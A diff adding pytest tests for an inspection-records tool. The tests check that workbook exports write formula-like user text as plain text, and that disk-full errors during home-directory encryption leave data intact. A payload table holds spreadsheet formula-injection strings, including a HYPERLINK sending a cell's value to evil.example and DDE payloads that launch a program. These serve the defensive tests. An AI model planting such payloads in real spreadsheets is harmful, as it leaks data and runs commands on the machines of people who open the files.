@@ -1,0 +1,202 @@
+"""Issue 23, finding 7 and the smaller findings of 9 that are neither bundles nor PDFs: no
+formula from user text in any workbook the tool writes; a settlement file of mixed encodings
+refused at the line where the encoding changes; ``home encrypt`` on a full disk; the registry
+reader's row limit before the whole file is read; a growing delay after wrong passphrases."""
+
+from __future__ import annotations
+
+import csv
+import errno
+import io
+import os
+import sqlite3
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from inspector.crypto.home import STAGING
+from inspector.ledger.entries import LedgerFilter, search_entries, set_progress
+from inspector.workspace import Workspace
+
+from .conftest import Cli
+from .ledger_helpers import signed_inspection, team_keys
+
+# --- finding 7: no formula from user text ----------------------------------------------------
+
+# What an attacker types where the tool later writes a workbook: each begins as a formula would.
+HOSTILE = {
+    "=": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+    "cmd": "=cmd|' /C calc'!A0",
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3",
+    "@": "@SUM(1,2)",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+    "district": "=1+1",
+    "title": "=2026年第一批",
+    "cert": "=370100009",
+}
+
+
+def _sheets_xml(path: Path) -> dict[str, str]:
+    with zipfile.ZipFile(path) as archive:
+        return {
+            name: archive.read(name).decode("utf-8")
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/") and name.endswith(".xml")
+        }
+
+
+def _texts(path: Path) -> set[str]:
+    book = openpyxl.load_workbook(io.BytesIO(path.read_bytes()))
+    found: set[str] = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows(values_only=True):
+            found.update(v for v in row if isinstance(v, str))
+    return found
+
+
+def _no_formula(path: Path, typed: list[str]) -> None:
+    """No cell of any sheet is a formula, and each hostile text reads back as typed (as part of
+    a cell: a report's title puts the district in a sentence)."""
+    sheets = _sheets_xml(path)
+    assert sheets
+    for name, xml in sheets.items():
+        assert "<f>" not in xml and "<f " not in xml, f"a formula in {path.name}:{name}"
+    texts = _texts(path)
+    for text in typed:
+        assert any(text in cell for cell in texts), f"{text!r} not read back from {path.name}"
+
+
+@pytest.fixture
+def hostile_ledger(workspace: Workspace) -> Workspace:
+    """Signed inspections of institutions named as formulas, in a district named as one, with
+    notes that are formulas; a progress note and the current inspector's 执法证号 too."""
+    from inspector.inspections import TeamMember, set_current_inspector
+
+    set_current_inspector(workspace, TeamMember(HOSTILE["+"], HOSTILE["cert"]))
+    keys = team_keys(workspace)
+    signed_inspection(workspace, keys, HOSTILE["="], [("P5.1", "1200", None)])
+    signed_inspection(
+        workspace, keys, HOSTILE["cmd"], [("P5.2", "30.5", None)], district=HOSTILE["district"]
+    )
+    entries = search_entries(workspace, LedgerFilter())
+    set_progress(workspace, entries[0].id, note=HOSTILE["@"])
+    return workspace
+
+
+def test_the_ledger_export_writes_user_text_as_text(
+    hostile_ledger: Workspace, cli: Cli, tmp_path: Path
+) -> None:
+    target = tmp_path / "台账.xlsx"
+    cli("ledger", "export", "--out", str(target))
+    # the institutions, their notes ("{institution} {item}"), the district, the progress note
+    _no_formula(target, [HOSTILE["="], HOSTILE["cmd"], HOSTILE["district"], HOSTILE["@"]])
+    rows = list(openpyxl.load_workbook(target).active.iter_rows(values_only=True))
+    assert sorted(row[10] for row in rows[1:]) == [30.5, 1200]  # the tool's numbers: numbers
+
+
+def test_the_report_writes_user_text_as_text(
+    hostile_ledger: Workspace, cli: Cli, tmp_path: Path
+) -> None:
+    from datetime import date
+
+    today = date.today()
+    quarter = f"{today.year}Q{(today.month - 1) // 3 + 1}"
+    report = tmp_path / "报告.xlsx"
+    cli("report", "--quarter", quarter, "--out", str(report))
+    _no_formula(report, [HOSTILE["district"]])  # the district, a row of 按区县
+
+
+def test_the_audit_export_writes_user_text_as_text(
+    hostile_ledger: Workspace, cli: Cli, tmp_path: Path
+) -> None:
+    audit = tmp_path / "操作记录.xlsx"
+    cli("audit", "export", "--out", str(audit))
+    _no_formula(audit, [HOSTILE["cert"]])  # the actor of every event
+
+
+def test_the_draws_publication_writes_user_text_as_text(cli: Cli, tmp_path: Path) -> None:
+    registry = tmp_path / "名单.csv"
+    names = [HOSTILE["="], HOSTILE["cmd"], HOSTILE["+"], "丁卫生院"]
+    with registry.open("w", encoding="utf-8", newline="") as handle:
+        table = csv.writer(handle)
+        table.writerow(["机构名称", "机构类型", "所在区县", "协议编号"])
+        table.writerows([n, "基层医疗机构", "历城区", f"A00{i}"] for i, n in enumerate(names, 1))
+    cli("institution", "import", str(registry))
+    for n, name in enumerate([HOSTILE["@"], HOSTILE["-"], "王强"], start=1):
+        cli("draw", "roster", "add", f"--name={name}", "--cert-no", f"37010000{n}",
+            "--district", "历城区", "--leader")  # fmt: skip
+    target = tmp_path / "抽查结果.xlsx"
+    cli("draw", "run", "--institutions", "4", "--reuse-inspectors", "--sources", "1 2 3",
+        f"--title={HOSTILE['title']}", "--out", str(target))  # fmt: skip
+    _no_formula(target, [*names, HOSTILE["@"], HOSTILE["-"], HOSTILE["title"]])
+    out, _ = cli("draw", "verify", str(target))
+    assert "复核通过" in out
+
+
+# --- finding 9: home encrypt on a full disk ---------------------------------------------------
+
+
+def _files(home: Path) -> dict[str, str]:
+    import hashlib
+
+    return {
+        p.relative_to(home).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(home.rglob("*"))
+        if p.is_file() and not p.name.endswith(("-wal", "-shm"))
+    }
+
+
+def _no_space(*_args: object, **_kwargs: object) -> None:
+    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+
+
+def _sqlite_full(*_args: object, **_kwargs: object) -> None:
+    raise sqlite3.OperationalError("database or disk is full")
+
+
+@pytest.mark.parametrize(
+    "where",
+    [
+        ("inspector.evidence.store.EvidenceStore.copy_in", _no_space),
+        ("inspector.crypto.home._encrypt_file", _no_space),
+        ("inspector.db.engine.encrypt_database", _sqlite_full),
+    ],
+    ids=["evidence", "key-file", "database"],
+)
+def test_home_encrypt_on_a_full_disk_says_so_and_leaves_the_directory_plain(
+    cli: Cli, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: tuple
+) -> None:
+    from .conftest import PHOTOS
+
+    out, _ = cli("inspection", "new", "--institution", "某医院", "--type", "primary_care",
+                 "--mode", "surprise", "--district", "历城区", "--inspector", "张伟:370100001",
+                 "--inspector", "李娜:370100002", "--leader", "370100002")  # fmt: skip
+    inspection = out.strip()
+    cli("answer", inspection, "P5.1", "--result", "problem", "--note", "挂床")
+    photo = next(iter(sorted((PHOTOS / "gps").glob("*.jpg"))))
+    cli("evidence", "add", inspection, str(photo), "--item", "P5.1", "--by", "370100001")
+    cli("key", "trial", "--name", "张伟", "--cert-no", "370100001",
+        "--passphrase-file", str(_secret(tmp_path)))  # fmt: skip
+    before = cli("inspection", "show", inspection, "--json")[0]
+    files = _files(home)
+    monkeypatch.setattr(*where)
+    _, err = cli("home", "encrypt", "--as", "370100001", "--new-passphrase-file",
+                 str(_secret(tmp_path)), expect=1)  # fmt: skip
+    assert "磁盘空间不足" in err and "原数据目录未改动" in err
+    assert "Traceback" not in err
+    assert _files(home) == files
+    assert not (home / STAGING).exists() and not (home / "vault.json").exists()
+    assert cli("inspection", "show", inspection, "--json")[0] == before
+    monkeypatch.undo()
+    cli("home", "encrypt", "--as", "370100001", "--new-passphrase-file", str(_secret(tmp_path)))
+    assert (home / "vault.json").exists()
+
+
+def _secret(tmp_path: Path) -> Path:
+    path = tmp_path / "口令.txt"
+    path.write_text("测试口令 correct horse\n", encoding="utf-8")
+    return path
